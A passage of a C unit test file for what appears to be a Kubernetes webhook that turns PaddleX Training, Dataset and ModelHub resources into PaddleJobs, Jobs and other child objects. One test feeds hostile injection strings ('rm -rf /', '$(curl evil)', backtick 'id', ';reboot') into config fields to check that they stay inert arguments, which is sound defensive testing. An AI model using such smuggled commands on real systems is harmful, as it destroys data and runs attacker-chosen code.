/*
 * test_expand.c - the children each kind expands into (SPEC §4): every
 * switch of a Training (GPU/CPU, ps, VisualDL, pretrainModel, labels,
 * saveInference/needConvert, each project), the other kinds' children, and
 * the proof that hostile user text ends up as inert single arguments.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <jansson.h>

#include "mutators/children.h"
#include "mutators/kinds.h"
#include "mutators/policy.h"

/* A Training with the given extra spec (a JSON object text merged over a
 * valid base). New. */
static json_t *training(const char *extra)
{
    json_t *obj = json_pack("{s:s, s:s, s:{s:s, s:s}, s:{s:s, s:s, s:s, s:s, s:s, s:i}}",
                            "apiVersion", KINDS_API_VERSION, "kind", "Training", "metadata", "name",
                            "ppocr", "namespace", "team-a", "spec", "project", "PaddleOCR", "image",
                            "registry.baidubce.com/paddleflow-public/paddleocr:2.1.3", "configPath",
                            "configs/det/det_mv3_db.yml", "dataset", "icdar2015", "pvcName", "task-pvc",
                            "workerReplicas", 1);
    json_t *more = json_loads(extra ? extra : "{}", 0, NULL);

    assert_non_null(more);
    json_object_update(json_object_get(obj, "spec"), more);
    json_decref(more);
    return obj;
}

/* Renders obj (stolen) under st; the children (new), or NULL with the
 * errors in errs. */
static json_t *render_errs_under(json_t *obj, const struct settings *st, struct fielderr_list *errs)
{
    struct context ctx = { .settings = st };
    const struct kind *k = kinds_of_object(obj);
    json_t *warnings = json_array(), *children;

    assert_non_null(k);
    children = kinds_render(k, obj, &ctx, errs, warnings);
    json_decref(warnings);
    json_decref(obj);
    return children;
}

/* The same with the built-in settings. */
static json_t *render_errs(json_t *obj, struct fielderr_list *errs)
{
    return render_errs_under(obj, &policy_builtin, errs);
}

/* Renders obj (stolen), which must be valid under st. */
static json_t *render_under(json_t *obj, const struct settings *st)
{
    struct fielderr_list errs = FIELDERR_LIST_INIT;
    json_t *children = render_errs_under(obj, st, &errs);

    for (size_t i = 0; i < errs.len; i++) {
        char *s = fielderr_string(&errs.v[i]);

        print_error("unexpected error: %s\n", s);
        free(s);
    }
    assert_int_equal(errs.len, 0);
    assert_non_null(children);
    fielderr_release(&errs);
    return children;
}

/* Renders obj (stolen), which must be valid. */
static json_t *render(json_t *obj)
{
    return render_under(obj, &policy_builtin);
}

/* Asserts rendering obj (stolen) fails with an error at path. */
static void assert_refused(json_t *obj, const char *path)
{
    struct fielderr_list errs = FIELDERR_LIST_INIT;
    json_t *children = render_errs(obj, &errs);
    int found = 0;

    assert_null(children);
    for (size_t i = 0; i < errs.len; i++)
        found |= !strcmp(errs.v[i].path, path);
    assert_true(found);
    fielderr_release(&errs);
}

/* The child of kind and name (borrowed), or NULL. */
static json_t *child(const json_t *children, const char *kind, const char *name)
{
    size_t i;
    json_t *c;

    json_array_foreach(children, i, c)
        if (!strcmp(json_string_value(json_object_get(c, "kind")), kind) &&
            !strcmp(kinds_name(c), name))
            return c;
    return NULL;
}

/* json_pack-style path lookup: get(obj, "spec", "worker", NULL). */
static json_t *get(const json_t *obj, ...)
{
    va_list ap;
    const char *key;

    va_start(ap, obj);
    while (obj && (key = va_arg(ap, const char *)))
        obj = json_object_get(obj, key);
    va_end(ap);
    return (json_t *)obj;
}

static json_t *pod_spec_of(const json_t *c)
{
    const char *kind = json_string_value(json_object_get(c, "kind"));

    if (!strcmp(kind, "PaddleJob"))
        return get(c, "spec", "worker", "template", "spec", NULL);
    return get(c, "spec", "template", "spec", NULL);
}

static json_t *container(const json_t *pod_spec, const char *field, const char *name)
{
    size_t i;
    json_t *c;

    json_array_foreach(json_object_get(pod_spec, field), i, c)
        if (!strcmp(json_string_value(json_object_get(c, "name")), name))
            return c;
    return NULL;
}

/* Index of s in the string array a, or -1. */
static int index_of(const json_t *a, const char *s)
{
    size_t i;
    json_t *v;

    json_array_foreach(a, i, v)
        if (!strcmp(json_string_value(v), s))
            return (int)i;
    return -1;
}

static const char *str(const json_t *v)
{
    assert_non_null(v);
    return json_string_value(v);
}

static json_t *paddle_args(const json_t *children, const char *role)
{
    json_t *job = child(children, "PaddleJob", "ppocr");

    return get(container(get(job, "spec", role, "template", "spec", NULL), "containers", "paddle"),
               "args", NULL);
}

static void test_paddlejob_gpu(void **state)
{
    json_t *children = render(training("{\"gpuPerNode\": 2, \"workerReplicas\": 3}"));
    json_t *job = child(children, "PaddleJob", "ppocr");
    json_t *worker = container(pod_spec_of(job), "containers", "paddle");
    json_t *args = json_object_get(worker, "args");
    const char *launch[] = { "-m", "paddle.distributed.launch", "--gpus", "0,1", "--log_dir",
                             "/mnt/task-center/log", "tools/train.py", "-c",
                             "configs/det/det_mv3_db.yml", "-o" };

    (void)state;
    assert_non_null(job);
    assert_int_equal(json_array_size(children), 3); /* PaddleJob, export, convert */
    assert_string_equal(str(get(json_array_get(children, 0), "kind", NULL)), "PaddleJob");
    assert_string_equal(str(get(job, "apiVersion", NULL)), "batch.paddlepaddle.org/v1");
    assert_string_equal(str(get(job, "metadata", "namespace", NULL)), "team-a");
    assert_string_equal(str(get(job, "metadata", "labels", "paddlex.paddlepaddle.org/training", NULL)), "ppocr");
    assert_string_equal(str(get(job, "metadata", "labels", "app.kubernetes.io/managed-by", NULL)),
                        "paddlex-webhook");
    assert_string_equal(str(get(job, "metadata", "labels", "app.kubernetes.io/part-of", NULL)), "paddlex");
    assert_null(get(job, "metadata", "annotations", NULL));
    assert_string_equal(str(get(job, "spec", "cleanPodPolicy", NULL)), "OnCompletion");
    assert_int_equal(json_integer_value(get(job, "spec", "withGloo", NULL)), 1);
    assert_string_equal(str(get(job, "spec", "intranet", NULL)), "PodIP");
    assert_string_equal(str(get(job, "spec", "sampleSetRef", "name", NULL)), "icdar2015");
    assert_string_equal(str(get(job, "spec", "sampleSetRef", "mountPath", NULL)), "/mnt/data-center");
    assert_int_equal(json_integer_value(get(job, "spec", "worker", "replicas", NULL)), 3);
    assert_null(get(job, "spec", "ps", NULL));
    assert_string_equal(str(json_array_get(json_object_get(worker, "command"), 0)), "python");
    assert_int_equal(json_array_size(json_object_get(worker, "command")), 1);
    for (size_t i = 0; i < sizeof(launch) / sizeof(launch[0]); i++)
        assert_string_equal(str(json_array_get(args, i)), launch[i]);
    assert_int_equal(json_integer_value(get(worker, "resources", "limits", "nvidia.com/gpu", NULL)), 2);
    assert_string_equal(str(get(json_array_get(json_object_get(worker, "volumeMounts"), 0), "mountPath", NULL)),
                        "/dev/shm");
    assert_string_equal(str(get(json_array_get(get(pod_spec_of(job), "volumes", NULL), 0), "emptyDir", "medium", NULL)),
                        "Memory");
    assert_string_equal(str(get(json_array_get(get(pod_spec_of(job), "volumes", NULL), 1),
                                "persistentVolumeClaim", "claimName", NULL)), "task-pvc");
    json_decref(children);
}

static void test_paddlejob_cpu_and_ps(void **state)
{
    json_t *children = render(training("{\"psReplicas\": 2, \"gpuPerNode\": 1}"));
    json_t *job = child(children, "PaddleJob", "ppocr");
    json_t *ps = container(get(job, "spec", "ps", "template", "spec", NULL), "containers", "paddle");

    (void)state;
    assert_int_equal(json_integer_value(get(job, "spec", "ps", "replicas", NULL)), 2);
    assert_non_null(ps);
    /* GPUs go to workers only; ps get the ps role's requests (SPEC §9.2) */
    assert_null(get(ps, "resources", "limits", NULL));
    assert_string_equal(str(get(ps, "resources", "requests", "cpu", NULL)), "1");
    assert_string_equal(str(get(ps, "resources", "requests", "memory", NULL)), "4Gi");
    assert_string_equal(str(get(json_array_get(json_object_get(ps, "volumeMounts"), 1), "mountPath", NULL)),
                        "/mnt/task-center");
    json_decref(children);

    children = render(training("{\"workerReplicas\": 0, \"psReplicas\": 1}"));
    job = child(children, "PaddleJob", "ppocr");
    assert_null(get(job, "spec", "worker", NULL));
    ps = container(get(job, "spec", "ps", "template", "spec", NULL), "containers", "paddle");
    /* CPU: the train entry comes first, no launcher, no GPU limit */
    assert_string_equal(str(json_array_get(json_object_get(ps, "args"), 0)), "tools/train.py");
    assert_int_equal(index_of(json_object_get(ps, "args"), "paddle.distributed.launch"), -1);
    json_decref(children);
}

static void test_overrides_generated(void **state)
{
    json_t *children = render(training(
        "{\"configChanges\": \" Global.epoch_num=10 ,, Global.x=[1,2],\","
        " \"useVisualDL\": true, \"trainLabel\": \"train.txt\", \"testLabel\": \"test.txt\","
        " \"pretrainModel\": \"https://h.example/x/MobileNetV3_large_x0_5_pretrained.pdparams?v=1\"}"));
    json_t *args = paddle_args(children, "worker");
    const char *want[] = {
        "tools/train.py", "-c", "configs/det/det_mv3_db.yml", "-o", "Global.epoch_num=10",
        "Global.x=[1,2]", "Global.use_visualdl=True", "Global.save_model_dir=/mnt/task-center/models/",
        "Global.save_inference_dir=/mnt/task-center/inference/",
        "Global.pretrained_model=/mnt/task-center/pretrain_model/MobileNetV3_large_x0_5_pretrained",
        "Train.dataset.data_dir=/mnt/data-center/",
        "Train.dataset.label_file_list=[\"/mnt/data-center/train.txt\"]",
        "Eval.dataset.data_dir=/mnt/data-center/",
        "Eval.dataset.label_file_list=[\"/mnt/data-center/test.txt\"]",
    };

    (void)state;
    assert_int_equal(json_array_size(args), sizeof(want) / sizeof(want[0]));
    for (size_t i = 0; i < sizeof(want) / sizeof(want[0]); i++)
        assert_string_equal(str(json_array_get(args, i)), want[i]);
    json_decref(children);

    /* without the switches, their overrides are gone */
    children = render(training(NULL));
    args = paddle_args(children, "worker");
    assert_int_equal(index_of(args, "Global.use_visualdl=True"), -1);
    assert_int_equal(index_of(args, "Train.dataset.data_dir=/mnt/data-center/"), 6);
    assert_int_equal(json_array_size(args), 8);
    json_decref(children);
}

static void test_pretrain(void **state)
{
    json_t *children = render(training(
        "{\"psReplicas\": 1, \"pretrainModel\": \"https://h.example/m/ResNet50_vd_pretrained.pdparams\"}"));
    json_t *job = child(children, "PaddleJob", "ppocr");
    const char *roles[] = { "worker", "ps" };

    (void)state;
    for (size_t r = 0; r < 2; r++) {
        json_t *spec = get(job, "spec", roles[r], "template", "spec", NULL);
        json_t *init = container(spec, "initContainers", "pretrain-model");
        json_t *args = json_object_get(init, "args");

        assert_non_null(init);
        assert_string_equal(str(json_object_get(init, "image")), policy_builtin.downloader_image);
        assert_string_equal(str(json_array_get(json_object_get(init, "command"), 0)), "curl");
        assert_int_equal(json_array_size(json_object_get(init, "command")), 1);
        assert_true(index_of(args, "/mnt/task-center/pretrain_model/ResNet50_vd_pretrained.pdparams") >= 0);
        assert_string_equal(str(json_array_get(args, json_array_size(args) - 1)),
                            "https://h.example/m/ResNet50_vd_pretrained.pdparams");
        /* the download lands in a pod-local emptyDir both containers mount */
        assert_string_equal(str(get(json_array_get(json_object_get(init, "volumeMounts"), 0), "mountPath", NULL)),
                            "/mnt/task-center/pretrain_model");
        assert_non_null(get(json_array_get(json_object_get(spec, "volumes"), 2), "emptyDir", NULL));
        assert_true(index_of(json_object_get(container(spec, "containers", "paddle"), "args"),
                             "Global.pretrained_model=/mnt/task-center/pretrain_model/ResNet50_vd_pretrained") >= 0);
    }
    json_decref(children);

    children = render(training(NULL));
    assert_null(get(pod_spec_of(child(children, "PaddleJob", "ppocr")), "initContainers", NULL));
    json_decref(children);
}

static void test_visualdl(void **state)
{
    json_t *children = render(training("{\"useVisualDL\": true}"));
    json_t *deploy = child(children, "Deployment", "ppocr-visualdl");
    json_t *svc = child(children, "Service", "ppocr-visualdl");
    json_t *c = container(pod_spec_of(deploy), "containers", "visualdl");

    (void)state;
    assert_non_null(deploy);
    assert_non_null(svc);
    assert_string_equal(str(get(json_array_get(children, 1), "kind", NULL)), "Deployment");
    assert_string_equal(str(get(json_array_get(children, 2), "kind", NULL)), "Service");
    assert_string_equal(str(json_object_get(c, "image")), policy_builtin.visualdl_image);
    assert_string_equal(str(json_array_get(json_object_get(c, "command"), 0)), "visualdl");
    assert_true(index_of(json_object_get(c, "args"), "/mnt/task-center/models/vdl/") >= 0);
    assert_true(index_of(json_object_get(c, "args"), "8040") >= 0);
    assert_int_equal(json_integer_value(get(json_array_get(json_object_get(c, "ports"), 0), "containerPort", NULL)),
                     8040);
    assert_int_equal(json_integer_value(get(json_array_get(get(svc, "spec", "ports", NULL), 0), "port", NULL)),
                     8040);
    assert_true(json_equal(get(deploy, "spec", "selector", "matchLabels", NULL),
                           get(deploy, "spec", "template", "metadata", "labels", NULL)));
    assert_true(json_equal(get(svc, "spec", "selector", NULL),
                           get(deploy, "spec", "template", "metadata", "labels", NULL)));
    json_decref(children);

    children = render(training("{\"useVisualDL\": false}"));
    assert_null(child(children, "Deployment", "ppocr-visualdl"));
    assert_null(child(children, "Service", "ppocr-visualdl"));
    json_decref(children);
}

static void test_export_convert(void **state)
{
    json_t *children = render(training("{\"gpuPerNode\": 4}"));
    json_t *export = child(children, "Job", "ppocr-export"), *convert = child(children, "Job", "ppocr-convert");
    json_t *c = container(pod_spec_of(export), "containers", "export");
    json_t *args = json_object_get(c, "args");

    (void)state;
    assert_string_equal(str(get(export, "metadata", "annotations", "paddlex.paddlepaddle.org/after", NULL)),
                        "PaddleJob/ppocr");
    assert_string_equal(str(get(convert, "metadata", "annotations", "paddlex.paddlepaddle.org/after", NULL)),
                        "Job/ppocr-export");
    assert_string_equal(str(get(export, "spec", "template", "spec", "restartPolicy", NULL)), "Never");
    assert_int_equal(json_integer_value(get(export, "spec", "backoffLimit", NULL)), CHILDREN_JOB_BACKOFF_LIMIT);
    assert_string_equal(str(json_array_get(args, 0)), "tools/export_model.py");
    assert_string_equal(str(json_array_get(args, json_array_size(args) - 1)),
                        "Global.checkpoints=/mnt/task-center/models/latest");
    assert_int_equal(json_integer_value(get(c, "resources", "limits", "nvidia.com/gpu", NULL)), 1);
    c = container(pod_spec_of(convert), "initContainers", "convert");
    assert_string_equal(str(json_array_get(json_object_get(c, "command"), 2)), "paddle_serving_client.convert");
    assert_true(index_of(json_object_get(c, "args"), "/mnt/task-center/serving/ppocr/server/") >= 0);
    c = container(pod_spec_of(convert), "initContainers", "pack");
    assert_true(index_of(json_object_get(c, "args"), "ppocr") >= 0);
    c = container(pod_spec_of(convert), "containers", "publish");
    assert_string_equal(str(json_array_get(json_object_get(c, "args"), 2)), "/mnt/task-center/ppocr.tar.gz");
    json_decref(children);

    children = render(training("{\"needConvert\": false}"));
    assert_non_null(child(children, "Job", "ppocr-export"));
    assert_null(child(children, "Job", "ppocr-convert"));
    json_decref(children);

    children = render(training("{\"saveInference\": false}"));   /* needConvert follows */
    assert_int_equal(json_array_size(children), 1);
    json_decref(children);

    assert_refused(training("{\"saveInference\": false, \"needConvert\": true}"), "spec.needConvert");
}

static void test_project_clas(void **state)
{
    json_t *children = render(training("{\"project\": \"paddleclas\", \"trainLabel\": \"train.txt\","
                                       " \"configChanges\": \"Global.epochs=3\"}"));
    json_t *args = paddle_args(children, "worker");
    json_t *export = container(pod_spec_of(child(children, "Job", "ppocr-export")), "containers", "export");
    json_t *eargs = json_object_get(export, "args");
    size_t n = json_array_size(args);

    (void)state;
    /* argparse action='append': "-o" precedes every override */
    assert_string_equal(str(json_array_get(args, 3)), "-o");
    assert_string_equal(str(json_array_get(args, 4)), "Global.epochs=3");
    for (size_t i = 3; i < n; i += 2)
        assert_string_equal(str(json_array_get(args, i)), "-o");
    assert_true(index_of(args, "Global.output_dir=/mnt/task-center/models/") >= 0);
    assert_true(index_of(args, "DataLoader.Train.dataset.cls_label_path=/mnt/data-center/train.txt") >= 0);
    /* the checkpoint dir is named after Arch.name: the fixed script finds it */
    assert_string_equal(str(json_array_get(json_object_get(export, "command"), 0)), "sh");
    assert_string_equal(str(json_array_get(eargs, 0)), "Global.pretrained_model");
    assert_string_equal(str(json_array_get(eargs, 1)), "/mnt/task-center/models");
    assert_string_equal(str(json_array_get(eargs, 2)), "latest");
    assert_string_equal(str(json_array_get(eargs, 3)), "python");
    assert_string_equal(str(json_array_get(eargs, json_array_size(eargs) - 1)), "-o");
    json_decref(children);
}

static void test_project_detection(void **state)
{
    json_t *children = render(training("{\"project\": \"PaddleDetection\", \"useVisualDL\": true,"
                                       " \"configPath\": \"configs/yolov3/yolov3_darknet53_270e_coco.yml\"}"));
    json_t *args = paddle_args(children, "worker");
    json_t *export = container(pod_spec_of(child(children, "Job", "ppocr-export")), "containers", "export");
    json_t *convert = container(pod_spec_of(child(children, "Job", "ppocr-convert")), "initContainers", "convert");

    (void)state;
    assert_true(index_of(args, "--use_vdl=True") >= 0);
    assert_true(index_of(args, "--vdl_log_dir=/mnt/task-center/models/vdl/") >= 0);
    assert_true(index_of(args, "--use_vdl=True") < index_of(args, "-o"));
    assert_true(index_of(args, "save_dir=/mnt/task-center/models/") >= 0);
    assert_true(index_of(json_object_get(export, "args"), "--output_dir=/mnt/task-center/inference/") >= 0);
    assert_true(index_of(json_object_get(export, "args"),
                         "weights=/mnt/task-center/models/yolov3_darknet53_270e_coco/model_final") >= 0);
    assert_true(index_of(json_object_get(convert, "args"),
                         "/mnt/task-center/inference/yolov3_darknet53_270e_coco/") >= 0);
    assert_true(index_of(json_object_get(convert, "args"), "model.pdmodel") >= 0);
    json_decref(children);

    /* ppdet cannot take dataset paths on its command line */
    assert_refused(training("{\"project\": \"PaddleDetection\", \"trainLabel\": \"a.json\"}"), "spec.trainLabel");
}

static void test_reserved_and_unknown_project(void **state)
{
    (void)state;
    assert_refused(training("{\"configChanges\": \"Global.save_model_dir=/tmp\"}"), "spec.configChanges");
    assert_refused(training("{\"configChanges\": \"Global.checkpoints=/tmp/x\"}"), "spec.configChanges");
    assert_refused(training("{\"project\": \"PaddleNLP\"}"), "spec.project");
}

/* 1 when s occurs in any command element of any container of children. */
static int in_commands(const json_t *children, const char *s)
{
    size_t i, j, k;
    json_t *ch, *c, *e;
    const char *fields[] = { "initContainers", "containers" };

    json_array_foreach(children, i, ch) {
        json_t *specs[] = { pod_spec_of(ch), get(ch, "spec", "ps", "template", "spec", NULL),
                            get(ch, "spec", "predictor", NULL) };

        for (size_t p = 0; p < 3; p++)
            for (size_t f = 0; f < 2; f++)
                json_array_foreach(json_object_get(specs[p], fields[f]), j, c)
                    json_array_foreach(json_object_get(c, "command"), k, e)
                        if (strstr(json_string_value(e), s))
                            return 1;
    }
    return 0;
}

static void test_hostile_text_is_inert(void **state)
{
    json_t *children = render(training(
        "{\"configChanges\": \"Global.x=1;rm -rf /,Global.y=$(curl evil),Global.z=`id` && echo \\\"$HOME\\\"\","
        " \"pretrainModel\": \"https://h.example/m/M.pdparams?a=$(id)&b=;reboot\"}"));
    json_t *args = paddle_args(children, "worker");
    json_t *init = container(pod_spec_of(child(children, "PaddleJob", "ppocr")), "initContainers", "pretrain-model");

    (void)state;
    /* one argument each, verbatim; '$' doubled so the kubelet does not
     * expand $(...) either: the process receives "$(curl evil)" */
    assert_true(index_of(args, "Global.x=1;rm -rf /") >= 0);
    assert_true(index_of(args, "Global.y=$$(curl evil)") >= 0);
    assert_true(index_of(args, "Global.z=`id` && echo \"$$HOME\"") >= 0);
    assert_true(index_of(json_object_get(init, "args"), "https://h.example/m/M.pdparams?a=$$(id)&b=;reboot") >= 0);
    assert_false(in_commands(children, "rm -rf"));
    assert_false(in_commands(children, "curl evil"));
    assert_false(in_commands(children, "reboot"));
    json_decref(children);

    /* an entry that is not KEY=VALUE is refused, not passed */
    assert_refused(training("{\"configChanges\": \"$(curl evil)\"}"), "spec.configChanges");
}

static json_t *cr(const char *kind, const char *name, const char *spec)
{
    json_t *obj = json_pack("{s:s, s:s, s:{s:s, s:s}}", "apiVersion", KINDS_API_VERSION, "kind", kind,
                            "metadata", "name", name, "namespace", "kubeflow");

    json_object_set_new(obj, "spec", json_loads(spec, 0, NULL));
    assert_non_null(json_object_get(obj, "spec"));
    return obj;
}

static void test_dataset(void **state)
{
    json_t *children = render(cr("Dataset", "icdar2015",
                                 "{\"sourceUri\": \"bos://bucket.example/icdar2015/\", \"sourceSecret\": \"src\"}"));
    json_t *set = child(children, "SampleSet", "icdar2015");

    (void)state;
    assert_int_equal(json_array_size(children), 1);
    assert_string_equal(str(get(set, "apiVersion", NULL)), "batch.paddlepaddle.org/v1alpha1");
    assert_int_equal(json_integer_value(get(set, "spec", "partitions", NULL)), 1);
    assert_string_equal(str(get(set, "spec", "source", "uri", NULL)), "bos://bucket.example/icdar2015/");
    assert_string_equal(str(get(set, "spec", "source", "secretRef", "name", NULL)), "src");
    /* spec.secretRef is the JuiceFS engine's Secret, not the source's
     * (paddle-operator sampleset branch, base_controller.go SecretObjectKey
     * vs SourceSecretObjectKey) */
    assert_string_equal(str(get(set, "spec", "secretRef", "name", NULL)), policy_builtin.engine_secret);
    assert_string_equal(str(get(set, "metadata", "labels", "paddlex.paddlepaddle.org/dataset", NULL)), "icdar2015");
    json_decref(children);
}

static void test_modelhub(void **state)
{
    json_t *a = render(cr("ModelHub", "hub", "{\"pvcName\": \"pvc\", \"modelName\": \"ppocr\","
                                             " \"endpoint\": \"https://minio.example:9000/\"}"));
    json_t *b = render(cr("ModelHub", "other", "{\"pvcName\": \"pvc2\", \"modelVersion\": \"v2.1\"}"));
    json_t *job = child(a, "Job", "hub-upload");
    json_t *c = container(pod_spec_of(job), "containers", "upload");
    json_t *cb = container(pod_spec_of(child(b, "Job", "other-upload")), "containers", "upload");
    const char *want[] = { "https://minio.example:9000", "model-center", "/mnt/task-center/ppocr.tar.gz",
                           "ppocr/latest/ppocr.tar.gz" };
    json_t *env = json_object_get(c, "env");

    (void)state;
    assert_string_equal(str(get(job, "spec", "template", "spec", "restartPolicy", NULL)), "Never");
    assert_int_equal(json_integer_value(get(job, "spec", "backoffLimit", NULL)), CHILDREN_JOB_BACKOFF_LIMIT);
    assert_string_equal(str(json_object_get(c, "image")), policy_builtin.uploader_image);
    for (size_t i = 0; i < 4; i++)
        assert_string_equal(str(json_array_get(json_object_get(c, "args"), i)), want[i]);
    /* the script is the same text whatever the values: nothing is spliced */
    assert_true(json_equal(json_object_get(c, "command"), json_object_get(cb, "command")));
    assert_string_equal(str(json_array_get(json_object_get(cb, "args"), 3)), "other/v2.1/other.tar.gz");
    assert_string_equal(str(get(json_array_get(env, 0), "name", NULL)), "MINIO_ACCESS_KEY");
    assert_string_equal(str(get(json_array_get(env, 0), "valueFrom", "secretKeyRef", "name", NULL)),
                        policy_builtin.credentials_secret);
    /* Kubeflow Pipelines' mlpipeline-minio-artifact and its key names */
    assert_string_equal(policy_builtin.credentials_secret, "mlpipeline-minio-artifact");
    assert_string_equal(str(get(json_array_get(env, 0), "valueFrom", "secretKeyRef", "key", NULL)), "accesskey");
    assert_string_equal(str(get(json_array_get(env, 1), "valueFrom", "secretKeyRef", "key", NULL)), "secretkey");
    assert_non_null(strstr(str(json_array_get(json_object_get(c, "command"), 2)), "application/x-gzip"));
    json_decref(a);
    json_decref(b);
}

/* ------------------------------------------------ operators (SPEC §9.2) */

/* The Training Operator's PaddleJob: psReplicas are the Master (PS mode),
 * workerReplicas the Worker, GPUs on workers only, container "paddle"
 * with the port named "master" (v1.9.0 pkg/controller.v1/paddlepaddle/
 * envvar.go getPortFromPaddleJob), the launcher always, the Dataset's
 * claim read-only at /mnt/data-center. */
static void test_kubeflow_paddlejob(void **state)
{
    struct settings st = policy_builtin;
    json_t *children, *job, *master, *worker, *mc, *wc, *vol;

    (void)state;
    st.training_operator = POLICY_OPERATOR_KUBEFLOW;
    children = render_under(training("{\"workerReplicas\": 3, \"psReplicas\": 2, \"gpuPerNode\": 2}"), &st);
    job = child(children, "PaddleJob", "ppocr");
    assert_string_equal(str(get(job, "apiVersion", NULL)), "kubeflow.org/v1");
    master = get(job, "spec", "paddleReplicaSpecs", "Master", NULL);
    worker = get(job, "spec", "paddleReplicaSpecs", "Worker", NULL);
    assert_int_equal(json_integer_value(get(master, "replicas", NULL)), 2);
    assert_int_equal(json_integer_value(get(worker, "replicas", NULL)), 3);
    assert_null(get(job, "spec", "worker", NULL));
    mc = container(get(master, "template", "spec", NULL), "containers", "paddle");
    wc = container(get(worker, "template", "spec", NULL), "containers", "paddle");
    assert_non_null(mc);
    assert_non_null(wc);
    assert_null(get(mc, "resources", "limits", NULL));
    assert_int_equal(json_integer_value(get(wc, "resources", "limits", "nvidia.com/gpu", NULL)), 2);
    assert_string_equal(str(get(json_array_get(json_object_get(wc, "ports"), 0), "name", NULL)), "master");
    assert_int_equal(json_integer_value(get(json_array_get(json_object_get(wc, "ports"), 0), "containerPort", NULL)),
                     36543);
    assert_string_equal(str(json_array_get(json_object_get(mc, "args"), 1)), "paddle.distributed.launch");
    assert_string_equal(str(json_array_get(json_object_get(mc, "args"), 2)), "--log_dir");
    assert_string_equal(str(json_array_get(json_object_get(wc, "args"), 2)), "--gpus");
    assert_string_equal(str(json_array_get(json_object_get(wc, "args"), 3)), "0,1");
    vol = json_array_get(get(worker, "template", "spec", "volumes", NULL), 2);
    assert_string_equal(str(get(vol, "persistentVolumeClaim", "claimName", NULL)), "icdar2015");
    assert_true(json_is_true(get(vol, "persistentVolumeClaim", "readOnly", NULL)));
    assert_string_equal(str(get(json_array_get(json_object_get(wc, "volumeMounts"), 2), "mountPath", NULL)),
                        "/mnt/data-center");
    json_decref(children);

    /* no Master without parameter servers: collective mode */
    children = render_under(training(NULL), &st);
    assert_null(get(child(children, "PaddleJob", "ppocr"), "spec", "paddleReplicaSpecs", "Master", NULL));
    json_decref(children);

    /* parameter servers without a trainer: refused under kubeflow only */
    children = render(training("{\"workerReplicas\": 0, \"psReplicas\": 1}"));
    json_decref(children);
    {
        struct fielderr_list errs = FIELDERR_LIST_INIT;

        assert_null(render_errs_under(training("{\"workerReplicas\": 0, \"psReplicas\": 1}"), &st, &errs));
        assert_string_equal(errs.v[0].path, "spec.psReplicas");
        fielderr_release(&errs);
    }
}

/* A Dataset under kubeflow: a claim of the policy's size and class, and a
 * sync Job reading the source credentials (keys access-key, secret-key,
 * optional) into it. */
static void test_kubeflow_dataset(void **state)
{
    struct settings st = policy_builtin;
    json_t *children, *pvc, *job, *c;

    (void)state;
    st.training_operator = POLICY_OPERATOR_KUBEFLOW;
    st.data_storage_class = "nfs-client";
    st.data_claim_size = "20Gi";
    children = render_under(cr("Dataset", "icdar2015",
                               "{\"sourceUri\": \"s3://bucket.example/icdar2015/\", \"sourceSecret\": \"src\"}"),
                            &st);
    assert_int_equal(json_array_size(children), 2);
    assert_null(child(children, "SampleSet", "icdar2015"));
    pvc = child(children, "PersistentVolumeClaim", "icdar2015");
    assert_string_equal(str(get(pvc, "spec", "storageClassName", NULL)), "nfs-client");
    assert_string_equal(str(get(pvc, "spec", "resources", "requests", "storage", NULL)), "20Gi");
    job = child(children, "Job", "icdar2015-sync");
    c = container(pod_spec_of(job), "containers", "sync");
    assert_string_equal(str(json_object_get(c, "image")), policy_builtin.data_sync_image);
    assert_string_equal(str(json_array_get(json_object_get(c, "args"), 0)), "s3://bucket.example/icdar2015/");
    assert_string_equal(str(get(json_array_get(json_object_get(c, "env"), 0), "valueFrom", "secretKeyRef", "name",
                                NULL)), "src");
    assert_string_equal(str(get(json_array_get(json_object_get(c, "env"), 0), "valueFrom", "secretKeyRef", "key",
                                NULL)), "access-key");
    assert_string_equal(str(get(job, "spec", "template", "metadata", "annotations", "sidecar.istio.io/inject", NULL)),
                        "false");
    json_decref(children);
}

/* defaults.pod on every pod template; the Istio switch and requests on
 * every container, init containers with the helper's. */
static void test_pod_settings(void **state)
{
    struct settings st = policy_builtin;
    json_t *tol = json_loads("[{\"key\": \"gpu\", \"operator\": \"Exists\", \"effect\": \"NoSchedule\"}]", 0, NULL);
    json_t *ann = json_loads("{\"sidecar.istio.io/inject\": \"true\", \"x\": \"y\"}", 0, NULL);
    json_t *labels = json_loads("{\"app.kubernetes.io/component\": \"mine\", \"team\": \"ocr\"}", 0, NULL);
    json_t *res = json_loads("{\"worker\": {\"requests\": {\"cpu\": 4}, \"limits\": {\"memory\": \"32Gi\", "
                             "\"nvidia.com/gpu\": 8}}}", 0, NULL);
    json_t *children, *tpl, *c, *init;

    (void)state;
    children = render(training("{\"gpuPerNode\": 1, \"pretrainModel\": \"https://h.example/a/m.pdparams\"}"));
    tpl = get(child(children, "PaddleJob", "ppocr"), "spec", "worker", "template", NULL);
    assert_string_equal(str(get(tpl, "metadata", "annotations", "sidecar.istio.io/inject", NULL)), "false");
    c = container(get(tpl, "spec", NULL), "containers", "paddle");
    assert_string_equal(str(get(c, "resources", "requests", "cpu", NULL)), "2");
    init = container(get(tpl, "spec", NULL), "initContainers", "pretrain-model");
    assert_string_equal(str(get(init, "resources", "requests", "memory", NULL)), "1Gi");
    assert_null(get(tpl, "spec", "tolerations", NULL));
    json_decref(children);

    st.pod.tolerations = tol;
    st.pod.annotations = ann;
    st.pod.labels = labels;
    st.pod.resources = res;
    st.pod.service_account = "runner";
    st.pod.priority_class = "batch";
    children = render_under(training("{\"gpuPerNode\": 1}"), &st);
    tpl = get(child(children, "PaddleJob", "ppocr"), "spec", "worker", "template", NULL);
    assert_string_equal(str(get(tpl, "metadata", "annotations", "sidecar.istio.io/inject", NULL)), "true");
    assert_string_equal(str(get(tpl, "metadata", "annotations", "x", NULL)), "y");
    /* a policy label never replaces one the children carry (selectors) */
    assert_string_equal(str(get(tpl, "metadata", "labels", "app.kubernetes.io/component", NULL)), "worker");
    assert_string_equal(str(get(tpl, "metadata", "labels", "team", NULL)), "ocr");
    assert_true(json_equal(get(tpl, "spec", "tolerations", NULL), tol));
    assert_string_equal(str(get(tpl, "spec", "serviceAccountName", NULL)), "runner");
    assert_string_equal(str(get(tpl, "spec", "priorityClassName", NULL)), "batch");
    c = container(get(tpl, "spec", NULL), "containers", "paddle");
    assert_int_equal(json_integer_value(get(c, "resources", "requests", "cpu", NULL)), 4);
    /* memory limited, not requested: no built-in request under the limit */
    assert_null(get(c, "resources", "requests", "memory", NULL));
